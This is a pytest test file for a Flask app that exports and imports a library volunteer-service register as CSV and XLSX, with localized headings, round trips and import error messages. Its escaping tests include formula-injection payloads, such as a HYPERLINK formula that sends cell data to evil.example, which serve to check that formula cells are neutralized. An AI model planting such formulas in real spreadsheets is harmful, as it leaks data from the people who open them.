"""CSV and XLSX: export in the workshop's language, round trips that keep every cell, and the import report."""

import csv
import io
import random
import zipfile
from collections import Counter

import pytest
from flask_babel import force_locale
from openpyxl import Workbook, load_workbook

from facilitator.register import services, spreadsheets
from facilitator.register.spreadsheets import escape_cell, parse_import, unescape_cell

HEADERS_EN = [
    "Library ID",
    "Library name",
    "Municipality",
    "Settlement",
    "Service delivered with the support of volunteers",
    "Target group",
]
#: The heading row of the seed's own table.
HEADERS_SEED = [
    "ID",
    "Име на библиотеката",
    "Община",
    "Населено място",
    "Услуга с подкрепата на доброволци",
    "Целева група",
]
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)


def csv_bytes(rows, delimiter=",", bom=True):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def xlsx_bytes(rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def parse(data, filename="register.csv", existing=None, locale="bg"):
    return parse_import(data, filename, Counter(existing or {}), locale)


def errors_of(report):
    return [(e.row, e.column, e.message) for e in report.errors]


def cells(entry):
    return (
        entry.library_number,
        entry.library_name,
        entry.municipality,
        entry.settlement,
        entry.service_category,
        entry.service_description,
        entry.target_group,
    )


# --- escaping ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, escaped",
    [
        ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
        ("+359 888 123", "'+359 888 123"),
        ("-1", "'-1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("Е-здраве: =1", "Е-здраве: =1"),
        ("plain", "plain"),
        ("", ""),
        (732, 732),
    ],
)
def test_escape_cell_makes_formulas_inert_and_unescape_gives_them_back(value, escaped):
    assert escape_cell(value) == escaped
    if isinstance(value, str):
        assert unescape_cell(escaped) == value


def test_unescape_keeps_an_authors_apostrophe_before_ordinary_text():
    assert unescape_cell("'tis the season") == "'tis the season"
    assert unescape_cell("'") == "'"


# --- export --------------------------------------------------------------------------------------


def test_csv_has_a_bom_the_workshops_headings_and_its_separator(app, workshop, add_row):
    add_row(
        workshop, 734, "НЧ Зора-1858", "Дупница", "гр. Дупница", "e-inclusion", "Достъп за незрящи", "Незрящи граждани"
    )
    add_row(workshop, 732, "НЧ Лоза 1870", "Бобошево", "гр. Бобошево")
    data = spreadsheets.to_csv(services.entries_of(workshop), "bg")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    # Bulgarian writes decimals with a comma, so Excel there splits CSV on semicolons.
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    with force_locale("bg"):
        expected = [str(c.label) for c in spreadsheets.COLUMNS]
    assert rows[0] == expected == spreadsheets.headers("bg")
    assert rows[1] == [
        "734",
        "НЧ Зора-1858",
        "Дупница",
        "гр. Дупница",
        "Е-включване: Достъп за незрящи",
        "Незрящи граждани",
    ]
    assert rows[2] == ["732", "НЧ Лоза 1870", "Бобошево", "гр. Бобошево", "", ""]
    assert text.endswith("\r\n")


def test_english_csv_uses_commas_and_english_headings(app, create_workshop, add_row):
    workshop = create_workshop(locale="en")
    add_row(workshop, 1, "Library", category="e-health", description="Health talks")
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv(services.entries_of(workshop), "en").decode("utf-8-sig"))))
    assert rows == [HEADERS_EN, ["1", "Library", "", "", "E-health: Health talks", ""]]


def test_formula_cells_are_exported_escaped_in_csv_and_xlsx(app, workshop, add_row):
    attack = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
    add_row(workshop, 1, attack, "+359", "@home", description="-2+3", target="=1+1")
    entries = services.entries_of(workshop)
    row = list(csv.reader(io.StringIO(spreadsheets.to_csv(entries, "bg").decode("utf-8-sig")), delimiter=";"))[1]
    assert row == ["1", "'" + attack, "'+359", "'@home", "'-2+3", "'=1+1"]
    sheet = load_workbook(io.BytesIO(spreadsheets.to_xlsx(entries, "bg"))).active
    values = [cell.value for cell in sheet[2]]
    assert values == [1, "'" + attack, "'+359", "'@home", "'-2+3", "'=1+1"]
    assert all(cell.data_type == "s" for cell in sheet[2][1:])
    assert sheet["A2"].data_type == "n"


def test_xlsx_has_the_workshops_headings_and_numbers_as_numbers(app, workshop, add_row):
    add_row(
        workshop,
        3007,
        "НЧ Светлина-1913",
        "Кюстендил",
        "с. Раждавица",
        "e-inclusion",
        "Обучение на хора с двигателни увреждания",
        "Хора с увреждания",
    )
    sheet = load_workbook(io.BytesIO(spreadsheets.to_xlsx(services.entries_of(workshop), "bg"))).active
    assert [c.value for c in sheet[1]] == spreadsheets.headers("bg")
    assert [c.value for c in sheet[2]] == [
        3007,
        "НЧ Светлина-1913",
        "Кюстендил",
        "с. Раждавица",
        "Е-включване: Обучение на хора с двигателни увреждания",
        "Хора с увреждания",
    ]
    assert sheet.freeze_panes == "A2"


# --- round trips ---------------------------------------------------------------------------------

TRICKY_ROWS = [
    (732, "БИБЛИОТЕКА ПРИ НЧ ЛОЗА 1870", "Бобошево", "гр. Бобошево", None, "", ""),
    (
        734,
        "БИБЛИОТЕКА ПРИ НЧ „ЗОРА-1858”",
        "Дупница",
        "гр. Дупница",
        "e-inclusion",
        "Библиотеката при НЧ „Зора 1858” – гр. Дупница, посредник за достъп до електронни услуги",
        "Незрящи граждани",
    ),
    (
        5,
        'Biblioteka "Pod Lipą", filia nr 2; Łazy',
        "Łazy",
        "Łazy, ul. Źródlana 3",
        "e-culture",
        'Spotkania "Podaj dalej", część 1; potem: dyskusja\nDrugi wiersz, z przecinkiem\n\nI trzeci',
        "Dzieci, młodzież; seniorzy",
    ),
    (6, '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+48", "@miasto", None, "-5 stopni", "=SUM(1;2)"),
    (7, "'Apostrof na początku", "''dwa", "'=", "other", "'tis", "'"),
    (8, "Само категория", "", "", "e-skills", "", ""),
    (9, "Само описание", "", "", None, "Клуб по шах: всеки четвъртък", "Пенсионери"),
    (2_147_483_647, "Най-голям номер", "Рила", "гр. Рила", "e-health", "Tab\tinside", "x" * 300),
]


def fill(workshop, rows):
    for number, name, municipality, settlement, category, description, target in rows:
        services.add_entry(workshop, number, name, municipality, settlement, category, description, target)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("locale", ["bg", "pl", "en"])
def test_export_then_import_gives_back_every_cell(app, en, create_workshop, fmt, locale):
    source = create_workshop(title="Източник", locale=locale)
    fill(source, TRICKY_ROWS)
    exporter = spreadsheets.to_csv if fmt == "csv" else spreadsheets.to_xlsx
    data = exporter(services.entries_of(source), locale)

    target = create_workshop(title="Цел", locale=locale)
    report = parse(data, f"register.{fmt}", locale=locale)
    assert errors_of(report) == [] and not report.fatal
    assert report.total == len(TRICKY_ROWS)
    outcome = services.import_rows(target, report.rows)
    assert outcome.added == [r[0] for r in TRICKY_ROWS]
    assert [cells(e) for e in services.entries_of(target)] == TRICKY_ROWS

    # Importing into the register it came from changes nothing.
    again = services.import_rows(source, parse(data, f"register.{fmt}", locale=locale).rows)
    assert again.unchanged == [r[0] for r in TRICKY_ROWS] and not again.added and not again.updated
    assert [cells(e) for e in services.entries_of(source)] == TRICKY_ROWS


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_demo_register_round_trips(app, en, workshop, create_workshop, fmt):
    from facilitator.register.demo import load_demo_register

    load_demo_register(workshop)
    exporter = spreadsheets.to_csv if fmt == "csv" else spreadsheets.to_xlsx
    report = parse(exporter(services.entries_of(workshop), "bg"), f"r.{fmt}")
    copy = create_workshop(title="Копие")
    services.import_rows(copy, report.rows)
    assert [cells(e) for e in services.entries_of(copy)] == [cells(e) for e in services.entries_of(workshop)]


# --- reading what people upload ------------------------------------------------------------------


def test_seed_style_file_with_semicolons_and_blank_rows(app, en):
    data = csv_bytes(
        [
            [],
            HEADERS_SEED,
            ["732", "БИБЛИОТЕКА ПРИ НЧ ЛОЗА 1870", "Бобошево", "гр. Бобошево", "", ""],
            ["", "", "", "", "", ""],
            [
                "763",
                "БИБЛИОТЕКА ПРИ НЧ САМООБРАЗОВАНИЕ-1914",
                "Кочериново",
                "с. Стоб",
                "Е - култура: Създаване и разпространение на материали за края- електронно съдържание",
                "Местна общност",
            ],
        ],
        delimiter=";",
        bom=False,
    )
    report = parse(data)
    assert errors_of(report) == []
    assert report.header_row == 2 and report.total == 2
    assert [(r.row_number, r.library_number, r.service_category) for r in report.rows] == [
        (3, 732, None),
        (5, 763, "e-culture"),
    ]


def test_headings_in_any_language_any_order_and_case(app, en):
    data = csv_bytes(
        [
            ["grupa docelowa", "  Library   name ", "Gmina", "Miejscowość", "USŁUGA", "Nr"],
            ["Dzieci", "Biblioteka w Pilicy", "Pilica", "Pilica", "E-edukacja: Lekcje", "12"],
        ],
        delimiter="\t",
    )
    report = parse(data)
    assert errors_of(report) == []
    assert report.rows[0].values() == {
        "library_number": 12,
        "library_name": "Biblioteka w Pilicy",
        "municipality": "Pilica",
        "settlement": "Pilica",
        "service_category": "e-education",
        "service_description": "Lekcje",
        "target_group": "Dzieci",
    }


def test_existing_ids_are_marked_as_updates(app, en):
    report = parse(
        csv_bytes([HEADERS_EN, ["732", "Лоза", "", "", "", ""], ["900", "Нова", "", "", "", ""]]), existing={732: 1}
    )
    assert errors_of(report) == [] and report.updates == [732]


@pytest.mark.parametrize(
    "value, message",
    [
        ("abc", "“abc” is not a library ID: write a positive whole number, for example 732."),
        ("0", "“0” is not a library ID: write a positive whole number, for example 732."),
        ("-5", "“-5” is not a library ID: write a positive whole number, for example 732."),
        ("7.5", "“7.5” is not a library ID: write a positive whole number, for example 732."),
        ("７３２", "“７３２” is not a library ID: write a positive whole number, for example 732."),
        ("", "The library ID is missing."),
        ("99999999999", "99999999999 is too large for a library ID."),
    ],
)
def test_bad_ids_are_reported_with_row_and_column(app, en, value, message):
    data = csv_bytes([HEADERS_EN, ["732", "Лоза", "", "", "", ""], [value, "Зора", "", "", "", ""]])
    report = parse(data)
    assert errors_of(report) == [(3, "Library ID", message)]
    assert [r.library_number for r in report.rows] == [732]
    assert not report.fatal and report.error_rows == 1


def test_an_id_twice_in_the_file_is_an_error_on_each_of_its_rows(app, en):
    data = csv_bytes(
        [
            HEADERS_EN,
            ["732", "Лоза", "", "", "", ""],
            ["734", "Зора", "", "", "", ""],
            ["732", "Лоза отново", "", "", "", ""],
            ["732", "", "", "", "", ""],
        ]
    )
    report = parse(data)
    message = "The library ID 732 is in more than one row (rows 2, 4, 5). Keep it in one row only."
    assert errors_of(report) == [
        (2, "Library ID", message),
        (4, "Library ID", message),
        (5, "Library name", "The library name is missing."),
        (5, "Library ID", message),
    ]
    assert [r.library_number for r in report.rows] == [734]


def test_an_id_the_register_holds_twice_cannot_be_updated(app, en):
    report = parse(csv_bytes([HEADERS_EN, ["732", "Лоза", "", "", "", ""]]), existing={732: 2})
    assert errors_of(report) == [
        (
            2,
            "Library ID",
            "The register already has 2 rows with the library ID 732, so "
            "this row cannot say which one to update. Correct the register first.",
        )
    ]


def test_missing_library_name(app, en):
    report = parse(csv_bytes([HEADERS_EN, ["732", "   ", "Бобошево", "", "", ""]]))
    assert errors_of(report) == [(2, "Library name", "The library name is missing.")]


def test_unknown_category(app, en):
    report = parse(csv_bytes([HEADERS_EN, ["732", "Лоза", "", "", "Е-космос: Полети", ""]]))
    assert errors_of(report) == [
        (
            2,
            "Service delivered with the support of volunteers",
            "“Е-космос” is not a service category. Use one of: Е-здраве, Е-заетост, Е-култура, "
            "Е-бизнес, Е-включване, Е-образование, Е-умения, Други, or write the service "
            "without a category.",
        )
    ]


def test_too_long_cells(app, en):
    report = parse(csv_bytes([HEADERS_EN, ["732", "Я" * 201, "М" * 121, "", "Е-здраве: " + "д" * 2001, "ц" * 301]]))
    assert errors_of(report) == [
        (2, "Library name", "This cell is too long: 201 characters, at most 200."),
        (2, "Municipality", "This cell is too long: 121 characters, at most 120."),
        (
            2,
            "Service delivered with the support of volunteers",
            "This cell is too long: 2001 characters, at most 2000.",
        ),
        (2, "Target group", "This cell is too long: 301 characters, at most 300."),
    ]


def test_missing_columns_are_named_and_nothing_can_be_imported(app, en):
    report = parse(csv_bytes([["Library ID", "Library name", "Target group"], ["732", "Лоза", "Деца"]]))
    assert report.fatal and report.rows == []
    columns = (
        "Library ID, Library name, Municipality, Settlement, Service delivered with the support of "
        "volunteers, Target group"
    )
    assert errors_of(report) == [
        (1, "Municipality", f"The column “Municipality” is missing. The first row must name these columns: {columns}."),
        (1, "Settlement", f"The column “Settlement” is missing. The first row must name these columns: {columns}."),
        (
            1,
            "Service delivered with the support of volunteers",
            "The column “Service delivered with the support of volunteers” is missing. The first row must name "
            f"these columns: {columns}.",
        ),
    ]


def test_an_unknown_column_is_named_and_left_out(app, en):
    report = parse(csv_bytes([HEADERS_EN[:2] + ["Телефон"] + HEADERS_EN[2:], ["732", "Лоза", "0888", "", "", "", ""]]))
    assert not report.fatal
    assert errors_of(report) == [
        (
            1,
            "Телефон",
            "Unknown column “Телефон” (column C): it is not imported. The "
            "register's columns are: Library ID, Library name, Municipality, Settlement, "
            "Service delivered with the support of volunteers, Target group.",
        )
    ]
    assert [r.library_number for r in report.rows] == [732]


def test_a_doubled_column_and_values_without_a_heading(app, en):
    doubled = parse(csv_bytes([HEADERS_EN + ["Община"], ["732", "Лоза", "", "", "", "", "Дупница"]]))
    assert doubled.fatal
    assert errors_of(doubled) == [(1, "Община", "The column “Община” appears twice (columns C and G). Keep one.")]
    unnamed = parse(csv_bytes([HEADERS_EN + [""], ["732", "Лоза", "", "", "", "", "бележка"]]))
    assert not unnamed.fatal
    assert errors_of(unnamed) == [(1, "column G", "This column has values but no heading, so they are not imported.")]


@pytest.mark.parametrize(
    "data, filename, message",
    [
        (b"", "register.csv", "The file is empty."),
        (b"  \r\n \r\n", "register.csv", "The file is empty."),
        ("\ufeff".encode("utf-8"), "register.csv", "The file is empty."),
        (
            PNG,
            "register.xlsx",
            "This file is an image, not a spreadsheet. Upload a CSV file or an Excel workbook (.xlsx).",
        ),
        (
            b"%PDF-1.7\n%\xe2\xe3",
            "register.csv",
            "This file is a PDF, not a spreadsheet. Upload a CSV file or an Excel workbook (.xlsx).",
        ),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
            "register.xls",
            "This is an old Excel file (.xls). Open it in Excel or LibreOffice and save it as an Excel workbook (.xlsx) or "
            "as CSV, then upload that.",
        ),
        (
            b"Library ID,Library name\n1,x\n",
            "register.xlsx",
            "This file is named like a spreadsheet but is not one: it is not an Excel workbook. Upload the file Excel or "
            "LibreOffice saved, as .xlsx or CSV.",
        ),
        (
            "Library ID;Име\n1;Лоза\n".encode("cp1251"),
            "register.csv",
            "This file is neither an Excel workbook (.xlsx) nor a CSV file in UTF-8. If it is a CSV file, save it again "
            "choosing “CSV UTF-8”, then upload it.",
        ),
        (
            b"PK\x03\x04 this is not really a zip",
            "register.xlsx",
            "This file is not a spreadsheet. Upload a CSV file or an Excel workbook (.xlsx).",
        ),
        (
            b"a,b\x00c\n",
            "register.csv",
            "This file is not a spreadsheet. Upload a CSV file or an Excel workbook (.xlsx).",
        ),
    ],
)
def test_files_that_are_not_spreadsheets(app, en, data, filename, message):
    report = parse(data, filename)
    assert report.fatal and report.rows == []
    assert errors_of(report) == [(None, "", message)]


def test_random_bytes_renamed_xlsx_or_csv(app, en):
    noise = random.Random(7).randbytes(5000)
    for filename in ("register.xlsx", "register.csv"):
        report = parse(noise, filename)
        assert report.fatal and report.rows == [] and len(report.errors) == 1
        assert report.errors[0].row is None


def test_a_zip_that_is_not_a_workbook(app, en):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    report = parse(buffer.getvalue(), "register.xlsx")
    assert errors_of(report) == [
        (
            None,
            "",
            "This file is not an Excel workbook we can read. Open it in Excel or "
            "LibreOffice, save it as .xlsx or CSV, and upload it again.",
        )
    ]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    report = parse(buffer.getvalue(), "register.ods")
    assert errors_of(report) == [
        (
            None,
            "",
            "This is an OpenDocument spreadsheet (.ods). Save it as an Excel "
            "workbook (.xlsx) or as CSV, then upload that.",
        )
    ]


def test_headings_but_no_rows(app, en):
    report = parse(csv_bytes([HEADERS_EN, ["", "", "", "", "", ""]]))
    assert report.fatal
    assert errors_of(report) == [(None, "", "The file has the column headings but no rows below them.")]


def test_broken_csv_quotes(app, en):
    csv_module_limit = 131072
    data = (
        "Library ID,Library name,Municipality,Settlement,Service delivered with the support of volunteers,"
        'Target group\n1,"' + "x" * (csv_module_limit + 10)
    ).encode("utf-8")
    report = parse(data)
    assert report.fatal and report.errors[0].message.startswith("The file could not be read as CSV after row 1.")


def test_too_many_rows(app, en, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
    data = csv_bytes([HEADERS_EN] + [[str(n), "Б", "", "", "", ""] for n in range(1, 6)])
    report = parse(data)
    assert report.fatal and errors_of(report) == [
        (
            None,
            "",
            "The file has more than 3 rows. A register file may have "
            "at most 3 rows and 30 columns: split it into smaller files.",
        )
    ]


def test_xlsx_rows_are_numbered_as_excel_shows_them(app, en):
    data = xlsx_bytes(
        [
            HEADERS_EN,
            [732, "Лоза", "Бобошево", "гр. Бобошево", None, None],
            [None, None, None, None, None, None],
            [7.0, "Цяло число като дроб", None, None, "Е-здраве: Лекции", "Младежи"],
            [7.5, "Дроб", None, None, None, None],
            ["734", None, None, None, "Е-космос: Полети", None],
        ]
    )
    report = parse(data, "register.xlsx")
    assert errors_of(report) == [
        (5, "Library ID", "“7.5” is not a library ID: write a positive whole number, for example 732."),
        (6, "Library name", "The library name is missing."),
        (
            6,
            "Service delivered with the support of volunteers",
            "“Е-космос” is not a service category. Use one of: Е-здраве, Е-заетост, Е-култура, Е-бизнес, Е-включване, "
            "Е-образование, Е-умения, Други, or write the service without a category.",
        ),
    ]
    assert [(r.row_number, r.library_number, r.service_category) for r in report.rows] == [
        (2, 732, None),
        (4, 7, "e-health"),
    ]


def test_messages_follow_the_users_language(app):
    with app.test_request_context(headers={"Accept-Language": "bg"}):
        report = parse(b"")
        with force_locale("bg"):
            from flask_babel import gettext

            assert report.errors[0].message == gettext("The file is empty.")
